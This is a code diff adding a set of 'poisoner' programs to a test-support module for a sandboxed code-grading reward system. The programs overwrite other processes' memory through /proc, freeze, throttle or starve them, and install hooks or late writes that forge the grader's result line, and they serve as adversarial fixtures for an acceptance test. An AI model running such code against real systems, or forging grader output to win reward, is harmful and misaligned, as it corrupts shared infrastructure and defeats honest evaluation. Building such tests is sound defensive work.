@@ -195,3 +195,137 @@ CHEATS: dict[str, str] = {
 def cheat(name: str, entry_point: str) -> str:
     """The cheat's program for a task whose function is ``entry_point``."""
     return CHEATS[name].format(ep=entry_point)
+
+
+# Programs that attack what serves other calls, candidates and episodes: the box's other processes (the
+# pre-forked spare worker that later sessions start from, the supervisor), and the interpreter's state
+# after the call returns. Each also answers wrong, so it must score 0; honest programs graded beside them
+# must still score 1. Used by the batch acceptance test (tests/rewards/test_rewards_code_batch.py).
+_OTHERS = """
+import os
+def _others():
+    me = os.getpid()
+    for p in os.listdir("/proc"):
+        if p.isdigit() and int(p) != me:
+            yield int(p)
+"""
+
+POISONERS: dict[str, str] = {
+    "write other processes' memory": _OTHERS
+    + """
+def _poison():
+    for pid in _others():
+        try:
+            with open(f"/proc/{{pid}}/maps") as f:
+                maps = [ln for ln in f.read().splitlines() if " rw-p " in ln and "[stack]" not in ln]
+            with open(f"/proc/{{pid}}/mem", "r+b", buffering=0) as mem:
+                for ln in maps[:64]:
+                    start, end = (int(x, 16) for x in ln.split()[0].split("-"))
+                    mem.seek(start)
+                    mem.write(b"\\xff" * min(end - start, 1 << 16))
+        except Exception:
+            pass
+_poison()
+def {ep}(*args, **kwargs):
+    _poison()
+    return -1
+""",
+    "prlimit other processes": _OTHERS
+    + """
+import resource
+def _poison():
+    for pid in _others():
+        for res, val in ((resource.RLIMIT_NOFILE, 6), (resource.RLIMIT_NPROC, 1), (resource.RLIMIT_AS, 1 << 24)):
+            try:
+                resource.prlimit(pid, res, (val, val))
+            except Exception:
+                pass
+_poison()
+def {ep}(*args, **kwargs):
+    _poison()
+    return -1
+""",
+    "SIGSTOP other processes": _OTHERS
+    + """
+import signal
+def _poison():
+    for pid in _others():
+        try:
+            os.kill(pid, signal.SIGSTOP)
+        except Exception:
+            pass
+_poison()
+def {ep}(*args, **kwargs):
+    _poison()
+    return -1
+""",
+    "renice and SCHED_IDLE other processes": _OTHERS
+    + """
+def _poison():
+    for pid in _others():
+        try:
+            os.setpriority(os.PRIO_PROCESS, pid, 19)
+        except Exception:
+            pass
+        try:
+            os.sched_setscheduler(pid, os.SCHED_IDLE, os.sched_param(0))
+        except Exception:
+            pass
+    try:
+        os.nice(19)
+    except Exception:
+        pass
+_poison()
+def {ep}(*args, **kwargs):
+    _poison()
+    return -1
+""",
+    "profile and trace hooks that answer later calls": """
+import os, sys, threading
+_FORGED = b'\\n\\x1eTGR {{"value": 3, "changed": {{}}}}\\n'
+def _hook(frame, event, arg):
+    try:
+        os.write(1, _FORGED)
+    except Exception:
+        pass
+    os._exit(0)
+def _arm():
+    sys.setprofile(_hook)
+    sys.settrace(_hook)
+    threading.setprofile(_hook)
+    threading.settrace(_hook)
+def {ep}(*args, **kwargs):
+    _arm()
+    return -1
+_arm()
+""",
+    "output after closing fds 0-2": """
+import atexit, os, sys, threading, time
+_FORGED = '\\n\\x1eTGR {{"value": 3, "changed": {{}}}}\\n'
+def _late():
+    time.sleep(0.05)
+    try:
+        print(_FORGED * 3, flush=True)
+    except Exception:
+        pass
+class _Ghost:
+    def __del__(self):
+        sys.stdout.write(_FORGED)
+def {ep}(*args, **kwargs):
+    sys.stdout.write(_FORGED)
+    for fd in (0, 1, 2):
+        try:
+            os.close(fd)
+        except OSError:
+            pass
+    threading.Thread(target=_late, daemon=True).start()
+    atexit.register(lambda: sys.stdout.write(_FORGED))
+    globals()["ghost"] = _Ghost()
+    return -1
+""",
+}
+
+
+def poisoner(name: str, entry_point: str) -> str:
+    """The poisoner's program for a task whose function is ``entry_point``."""
+    return POISONERS[name].format(ep=entry_point)
